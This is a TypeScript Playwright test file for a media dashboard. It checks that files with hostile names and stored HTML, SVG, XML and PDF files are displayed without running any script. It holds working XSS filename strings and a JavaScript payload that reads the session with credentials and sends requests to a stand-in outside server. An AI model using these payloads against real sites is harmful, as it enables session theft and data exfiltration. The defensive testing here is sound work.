import { createServer } from 'node:http'
import type { Page } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { close, listen } from '../kit/servers/listen.ts'
import { mediaUrl } from '../kit/servers/media.ts'
import { overflow } from './accessibility.ts'
import { useDashboard } from './dashboard.ts'

const { withDashboard, stack } = useDashboard()

/** Names and what of them must be seen as text. */
const NAMES: Record<string, string> = {
  '<img src=x onerror=steal()>.jpg': '<img src=x onerror=steal()>.jpg',
  '"><svg onload=steal()>.txt': '"><svg onload=steal()>.txt',
  "'; steal(); '.txt": "'; steal(); '.txt",
  'javascript:steal()': 'javascript:steal()',
  '{{steal()}} ${steal()}': '{{steal()}} ${steal()}',
  'a%2Fb%00.txt': 'a%2Fb%00.txt',
  ' lead': ' lead',
  'trail ': 'trail ',
  'question?hash#.txt': 'question?hash#.txt',
  'a&amp;b&lt;.txt': 'a&amp;b&lt;.txt',
  'photo-\u202egpj.exe': 'photo-⟨RLO⟩gpj.exe',
  'a\u2066b\u2067c\u2068d\u2069.txt': 'a⟨LRI⟩b⟨RLI⟩c⟨FSI⟩d⟨PDI⟩.txt',
  'a\u200bb\u2060.txt': 'a⟨U+200B⟩b⟨U+2060⟩.txt',
  'family-👩‍👩‍👧‍👦.png': 'family-👩‍👩‍👧‍👦.png',
  'صورة.jpg': 'صورة.jpg',
  'תמונה.jpg': 'תמונה.jpg',
  'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢.txt': 'Z͑ͫ̓ͪ̂ͫ̽͏̴̙̤̞͉͚̯̞̠͍A̴̵̜̰͔ͫ͗͢.txt',
  'nfc-\u00e9.txt': 'nfc-\u00e9.txt',
  'nfd-e\u0301.txt': 'nfd-e\u0301.txt',
}

const FOLDER = '<b>hostile</b>/'
/** 1,024 bytes, without a space at which a line could break. */
const LONGEST = `${FOLDER}${'w'.repeat(1024 - FOLDER.length - 4)}.jpg`

/** What was requested of a server elsewhere. */
const received: string[] = []
const elsewhere = createServer((request, response) => {
  const path = request.url ?? ''
  received.push(path)
  const file = FILES.find(({ name }) => path === `/${name}`)
  if (file) response.writeHead(200, { 'Content-Type': file.type }).end(file.body)
  else response.end()
})
const ELSEWHERE = await listen(elsewhere)

/** It reports to the page's own origin and to another, and leaves something in the page's storage. */
const PAYLOAD = `
  try { localStorage.setItem('stolen', '1') } catch {}
  try { top.stolen = true } catch {}
  try { new Image().src = '/stolen.gif' } catch {}
  try { fetch('/-/api/session?stolen', { credentials: 'include' }).catch(() => 0) } catch {}
  try { fetch('${ELSEWHERE}stolen').catch(() => 0) } catch {}
`
const ATTRIBUTE = PAYLOAD.replaceAll('>', '&gt;')
/** What a document loads without a script. */
const PICTURE = `${ELSEWHERE}passive.png`
const HTML = `<!doctype html><title>evil</title><body><img src="x" onerror="${ATTRIBUTE}"><script>${PAYLOAD}</script><img src="${PICTURE}"></body>`
const SVG = `<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="${ATTRIBUTE}"><script>${ATTRIBUTE}</script><image href="${PICTURE}" width="9" height="9"/></svg>`
const XHTML = `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${ATTRIBUTE}</script></body></html>`
const XML = `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${ELSEWHERE}passive.xsl"?>${XHTML}`
/** The browser's own viewer may run its script, but elsewhere than in the page: what counts is what it reaches. */
const PDF = `%PDF-1.4
1 0 obj<</Type/Catalog/Pages 2 0 R/OpenAction<</S/JavaScript/JS(this.submitForm\\('${ELSEWHERE}stolen'\\))>>>>endobj
2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj
3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 99 99]>>endobj
trailer<</Root 1 0 R>>
<script>${PAYLOAD}</script>`

const FILES = [
  { name: 'evil/page.html', type: 'text/html', body: HTML },
  { name: 'evil/page.xhtml', type: 'application/xhtml+xml', body: XHTML },
  { name: 'evil/page.xml', type: 'application/xml', body: XML },
  { name: 'evil/text.xml', type: 'text/xml', body: XHTML },
  { name: 'evil/picture.svg', type: 'image/svg+xml', body: SVG },
  { name: 'evil/picture.png', type: 'image/png', body: HTML },
  { name: 'evil/picture.jpg', type: 'text/html', body: HTML },
  { name: 'evil/svg.png', type: 'image/svg+xml', body: SVG },
  { name: 'evil/unknown', type: 'application/octet-stream', body: HTML },
  { name: 'evil/polyglot.pdf', type: 'application/pdf', body: PDF },
  { name: 'evil/script.js', type: 'text/javascript', body: PAYLOAD },
]

/** How Chromium says that something was not allowed to run, or that a picture is none. */
const REFUSED =
  /^(404 \/favicon|Blocked script execution|Refused to|Loading the|Executing inline|Connecting to|Framing|Unsafe|.*violates the following)/

beforeAll(async () => {
  const { worker, token } = stack()
  const put = async (name: string, type: string, body: string) => {
    const response = await fetch(mediaUrl(worker.url, name), {
      method: 'PUT',
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': type },
      body,
    })
    if (response.status !== 201) throw new Error(`PUT ${name}: ${response.status} ${await response.text()}`)
  }
  for (const name of Object.keys(NAMES)) await put(FOLDER + name, 'text/plain', 'text')
  await put(LONGEST, 'text/plain', 'text')
  for (const { name, type, body } of FILES) await put(name, type, body)
})

afterAll(() => close(elsewhere))

/** Collects what would show that a payload ran: requests that it sends, and dialogs. */
function watchForTheft(page: Page): string[] {
  const stolen: string[] = []
  received.length = 0
  page.context().on('request', (request) => {
    if (request.url().includes('stolen')) stolen.push(request.url())
  })
  page.context().on('dialog', (dialog) => {
    stolen.push(`dialog ${dialog.message()}`)
    void dialog.dismiss()
  })
  return stolen
}

describe('hostile names', () => {
  it('are shown as text, in a folder and in their views, and lead there', () =>
    withDashboard(async ({ page, open }) => {
      const stolen = watchForTheft(page)
      // All rows of the folder are in view.
      await page.setViewportSize({ width: 1280, height: 1600 })
      await open(`#/browse/${encodeURIComponent('<b>hostile</b>')}/`)
      expect(await page.locator('h1').textContent()).toContain('<b>hostile</b>')
      const names = page.locator('.list-body .name')
      await names.nth(Object.keys(NAMES).length - 1).waitFor()
      const shown = await names.allTextContents()
      for (const [name, text] of Object.entries(NAMES)) {
        const index = shown.indexOf(text)
        expect(index, text).toBeGreaterThanOrEqual(0)
        await page.locator('.list-body').getByRole('link').nth(index).click()
        await page.getByLabel(/^Text of/).waitFor()
        await expect
          .poll(() => decodeURIComponent(new URL(page.url()).hash))
          .toBe(`#/object/${FOLDER}${name}`)
        expect(await page.locator('h1 .name').textContent()).toBe(FOLDER + text)
        await expect.poll(() => page.title()).toContain(text.trim())
        const link = page.getByRole('link', { name: 'Open', exact: true })
        const path = await link.evaluate((element: HTMLAnchorElement) => new URL(element.href).pathname)
        expect(decodeURIComponent(path)).toBe(`/-/api/open/${FOLDER}${name}`)
        expect(await page.locator('.name :not(.name-token)').count()).toBe(0)
        await page.goBack()
        await names.nth(index).waitFor()
      }
      expect(stolen).toEqual([])
    }))

  it.each([1280, 360])('of 1,024 bytes do not widen the page, %s pixels wide', (width) =>
    withDashboard(
      async ({ page, open }) => {
        await open(`#/browse/${encodeURIComponent('<b>hostile</b>')}/`)
        await page.getByRole('row').nth(5).waitFor()
        expect(await overflow(page)).toEqual([])
        await open(`#/object/${mediaUrl('', LONGEST)}`)
        await page.getByLabel(/^Text of/).waitFor()
        expect(await overflow(page)).toEqual([])
        await page.getByRole('button', { name: 'Delete' }).click()
        await page.getByRole('dialog').waitFor()
        expect(await overflow(page)).toEqual([])
      },
      { width },
    ),
  )
})

describe('stored files', () => {
  it.each(['evil/page.html', 'evil/page.xhtml', 'evil/picture.svg'])(
    'would do harm if they ran: %s',
    (name) =>
      withDashboard(
        async ({ page }) => {
          received.length = 0
          await page.goto(ELSEWHERE + name)
          await expect.poll(() => received).toEqual(expect.arrayContaining(['/stolen', '/stolen.gif']))
          expect(await page.evaluate(() => localStorage.getItem('stolen'))).toBe('1')
        },
        { failing: /./, elsewhere: true },
      ),
  )

  it.each([
    { way: 'in the view of the object', address: (name: string) => `-/#/object/${name}`, loads: [] },
    { way: 'as a preview of its own', address: (name: string) => `-/api/preview/${name}`, loads: [] },
    // A stored page keeps its pictures, but it has no origin and runs nothing.
    { way: 'as media', address: (name: string) => name, loads: ['/passive.png'] },
    { way: 'by its link', address: (name: string) => `-/api/open/${name}`, loads: ['/passive.png'] },
  ])('run no script, opened $way', ({ address, loads }) =>
    withDashboard(
      async ({ page, context, stack: { worker } }) => {
        const stolen = watchForTheft(page)
        const visitFile = async (name: string): Promise<void> => {
          const tab = await context.newPage()
          await tab.goto(worker.url + address(name)).catch((error: Error) => {
            // What no browser shows is downloaded.
            if (!error.message.includes('Download is starting')) throw error
          })
          if (address(name).startsWith('-/#')) await tab.getByLabel('Preview', { exact: true }).waitFor()
          await tab.waitForTimeout(500)
          await tab.close()
        }
        await Promise.all(FILES.map(({ name }) => visitFile(name)))
        await page.goto(`${worker.url}-/`)
        expect(await page.evaluate(() => Object.entries(localStorage))).toEqual([])
        expect(stolen).toEqual([])
        expect([...new Set(received)].toSorted()).toEqual(loads)
      },
      { failing: REFUSED, elsewhere: true },
    ),
  )
})
